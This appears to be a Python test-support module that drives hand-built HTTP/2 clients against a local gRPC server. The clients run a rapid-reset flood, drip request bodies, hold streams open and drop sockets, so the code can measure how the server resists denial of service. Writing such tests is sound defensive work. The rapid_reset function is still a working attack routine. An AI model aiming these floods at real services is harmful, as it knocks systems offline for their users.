"""Raw HTTP/2 clients that misbehave on purpose: rapid reset, dripped request bodies, dropped sockets.

grpcio's client cannot send what an attacker sends (a RST_STREAM right after
HEADERS, a body that never ends), so these speak HTTP/2 themselves with
python-hyper's ``h2`` state machine over a plain or TLS (ALPN ``h2``) socket.

Each abuse also runs as a subprocess (``python -m support.h2abuse ...``), so a
flood burns its own interpreter's GIL rather than the test's, and "the client
vanished" can be a real ``SIGKILL``. A subprocess prints ``ready`` once its
streams are open (or its flood has started) and counts on stdout as JSON when
it ends (on SIGTERM or stdin closing).
"""

from __future__ import annotations

import argparse
import json
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
LIST_LAYERS = "/layertap.v1.TelemetryService/ListLayers"

__all__ = ["H2Client", "Flood", "grpc_frame", "grpc_headers", "rapid_reset"]


def grpc_frame(message: bytes) -> bytes:
    """One gRPC length-prefixed message (uncompressed)."""
    return struct.pack(">BI", 0, len(message)) + message


def grpc_headers(method: str, authority: str, *, tls: bool, token: str | None = None) -> list[tuple[bytes, bytes]]:
    """Request headers of a gRPC call, as grpcio's client sends them."""
    headers = [(b":method", b"POST"), (b":scheme", b"https" if tls else b"http"), (b":path", method.encode()),
               (b":authority", authority.encode()), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    if token:
        headers.append((b"authorization", f"Bearer {token}".encode()))
    return headers


@dataclass
class Flood:
    """What a rapid-reset run sent and what the server said back."""

    resets: int = 0
    connections: int = 1
    goaways: list[int] = field(default_factory=list)
    #: RST_STREAM frames from the server by error code name (CANCEL: the server's answer to ours;
    #: REFUSED_STREAM / ENHANCE_YOUR_CALM: it pushed back before the call reached the application).
    server_resets: dict[str, int] = field(default_factory=dict)

    def add(self, client: H2Client) -> None:
        for code, n in client.server_resets.items():
            try:
                name = h2.errors.ErrorCodes(code).name
            except ValueError:
                name = str(code)
            self.server_resets[name] = self.server_resets.get(name, 0) + n


class H2Client:
    """One HTTP/2 connection to a gRPC server, driven by hand.

    Args:
        port: The server's port on 127.0.0.1.
        ca: PEM CA file: speak TLS with ALPN h2 (None: plaintext, prior knowledge).
        token: Bearer token sent with every call.
    """

    def __init__(self, port: int, *, ca: str | None = None, token: str | None = None, timeout: float = 5.0) -> None:
        self.authority = f"127.0.0.1:{port}"
        self.tls = ca is not None
        self.token = token
        sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if ca is not None:
            ctx = ssl.create_default_context(cafile=ca)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="127.0.0.1")
            if sock.selected_alpn_protocol() != "h2":
                raise ConnectionError(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
        self.sock = sock
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.initiate_connection()
        self.flush()
        self.events: list[h2.events.Event] = []
        self.goaway: int | None = None
        #: RST_STREAM frames the server sent, by HTTP/2 error code.
        self.server_resets: dict[int, int] = {}
        self._rx = bytearray()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, wait: float = 0.0) -> list[h2.events.Event]:
        """Read what the server sent (waiting up to ``wait`` seconds for the first byte) and answer pings."""
        got: list[h2.events.Event] = []
        while True:
            pending = self.tls and self.sock.pending()  # type: ignore[attr-defined]
            if not pending and not select.select([self.sock], [], [], wait)[0]:
                break
            wait = 0.0
            try:
                data = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            if not data:
                raise ConnectionError("the server closed the connection")
            self._count_resets(data)
            for event in self.conn.receive_data(data):
                got.append(event)
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = int(event.error_code)
        self.flush()
        self.events += got
        return got

    def _count_resets(self, data: bytes) -> None:
        """Count the server's RST_STREAM frames by error code, read off the raw frames: h2 drops
        those that arrive for a stream this side already reset, which is every one in a flood."""
        self._rx += data
        at = 0
        while len(self._rx) - at >= 9:
            length, kind = int.from_bytes(self._rx[at:at + 3], "big"), self._rx[at + 3]
            if len(self._rx) - at < 9 + length:
                break
            if kind == 0x3 and length == 4:
                code = int.from_bytes(self._rx[at + 9:at + 13], "big")
                self.server_resets[code] = self.server_resets.get(code, 0) + 1
            at += 9 + length
        del self._rx[:at]

    def start(self, method: str, body: bytes | None = None, *, end: bool = True) -> int:
        """HEADERS for ``method`` (and ``body`` as one DATA frame, ending the stream if ``end``); the stream id."""
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, grpc_headers(method, self.authority, tls=self.tls, token=self.token),
                               end_stream=body is None and end)
        if body is not None:
            self.conn.send_data(sid, body, end_stream=end)
        return sid

    def reset(self, sid: int) -> None:
        self.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)

    def drip(self, sid: int, data: bytes) -> None:
        """A few more body bytes, never the end of the stream."""
        self.conn.send_data(sid, data)
        self.flush()

    def responses(self, sid: int, count: int, timeout: float) -> int:
        """Wait until ``count`` DATA frames arrived on ``sid`` (or its end); how many did."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            seen = [e for e in self.events if getattr(e, "stream_id", None) == sid]
            if sum(isinstance(e, h2.events.DataReceived) for e in seen) >= count or any(
                    isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) for e in seen):
                break
            self.pump(0.05)
        return sum(isinstance(e, h2.events.DataReceived) and e.stream_id == sid for e in self.events)

    def trailers(self, sid: int) -> dict[bytes, bytes]:
        """Trailers (or a trailers-only response) received on ``sid`` so far."""
        out: dict[bytes, bytes] = {}
        for e in self.events:
            if isinstance(e, (h2.events.TrailersReceived, h2.events.ResponseReceived)) and e.stream_id == sid:
                out.update(dict(e.headers))
        return out

    def close(self) -> None:
        """Drop the socket as a crashed client does: no RST_STREAM, no GOAWAY."""
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(port: int, method: str, stop: threading.Event, *, ca: str | None = None,
                token: str | None = None, batch: int = 50) -> Flood:
    """HEADERS then RST_STREAM(CANCEL), as fast as possible on one connection, until ``stop``.

    A GOAWAY or a closed connection opens a new one (an attacker reconnects);
    the counts say how often the server pushed back.
    """
    flood = Flood()
    client = H2Client(port, ca=ca, token=token)
    while not stop.is_set():
        try:
            for _ in range(batch):
                client.reset(client.start(method, grpc_frame(b""), end=False))
            client.flush()
            flood.resets += batch
            client.pump()
        except (OSError, ConnectionError, h2.exceptions.ProtocolError):
            if client.goaway is not None:
                flood.goaways.append(client.goaway)
            client.close()
            flood.add(client)
            if stop.is_set():
                break
            try:
                client = H2Client(port, ca=ca, token=token)
            except OSError:
                time.sleep(0.05)
                continue
            flood.connections += 1
    client.close()
    flood.add(client)
    return flood


def _wait_for_end(stop: threading.Event) -> None:
    """Set ``stop`` on SIGTERM or when the parent closes our stdin."""
    signal.signal(signal.SIGTERM, lambda *_: stop.set())

    def read() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=read, daemon=True).start()


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="h2abuse")
    parser.add_argument("mode", choices=("rapid-reset", "drip", "hold"))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--method", default=HEALTH_CHECK)
    parser.add_argument("--ca")
    parser.add_argument("--token")
    parser.add_argument("--streams", type=int, default=64, help="drip/hold: streams in all")
    parser.add_argument("--connections", type=int, default=4, help="drip/hold: spread over this many")
    parser.add_argument("--body", default="", help="hold: hex of the serialized request message")
    parser.add_argument("--open", action="store_true", help="hold: never half-close (a bidi stream's requests go on)")
    args = parser.parse_args(argv)
    stop = threading.Event()
    _wait_for_end(stop)
    if args.mode == "rapid-reset":
        print("ready", flush=True)
        flood = rapid_reset(args.port, args.method, stop, ca=args.ca, token=args.token)
        print(json.dumps(flood.__dict__), flush=True)
        return 0
    clients = [H2Client(args.port, ca=args.ca, token=args.token) for _ in range(args.connections)]
    streams: list[tuple[H2Client, int]] = []
    for i in range(args.streams):
        client = clients[i % len(clients)]
        if args.mode == "drip":
            # The prefix promises 1 KiB; a few bytes follow, then one byte at a time, never the end.
            streams.append((client, client.start(args.method, struct.pack(">BI", 0, 1024) + b"\x0a", end=False)))
        else:
            streams.append((client, client.start(args.method, grpc_frame(bytes.fromhex(args.body)), end=not args.open)))
    for client in clients:
        client.flush()
        client.pump(0.1)
    print("ready", flush=True)
    while not stop.wait(0.5):
        for client, sid in streams:
            try:
                if args.mode == "drip":
                    client.drip(sid, b"\x00")
                client.pump()
            except (OSError, ConnectionError, h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                pass
    ended = sum(any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) and e.stream_id == sid
                    for e in client.events) for client, sid in streams)
    print(json.dumps({"streams": len(streams), "ended": ended}), flush=True)
    for client in clients:
        client.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
